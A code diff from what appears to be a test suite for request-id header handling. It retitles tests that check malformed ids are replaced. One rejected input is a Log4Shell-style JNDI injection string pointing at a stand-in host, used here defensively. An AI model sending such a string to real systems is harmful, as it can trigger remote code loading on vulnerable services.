@@ -51,7 +51,7 @@ describe('the id', () => {
     'aGVsbG8+d29ybGQ/Cg==',
     '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
     'a'.repeat(128),
-  ])('may look like %s', async (id) => {
+  ])('may have any usual form: %s', async (id) => {
     const { headers } = await ask({ 'x-request-id': id })
     expect(headers.get('x-request-id')).toBe(id)
   })
@@ -65,7 +65,7 @@ describe('the id', () => {
     ['with a template', '${jndi:ldap://evil.example.net}'],
     ['not ASCII', 'h\xe4'],
     ['two', ['a', 'b']],
-  ])('is replaced if it is %s', async (_, id) => {
+  ])('is replaced if it is not well-formed: %s', async (_, id) => {
     const response = await ask({ 'x-request-id': id })
     expect(response.headers.get('x-request-id')).toBe('new')
     expect(await response.json()).toMatchObject({ key: 'new', header: 'new' })
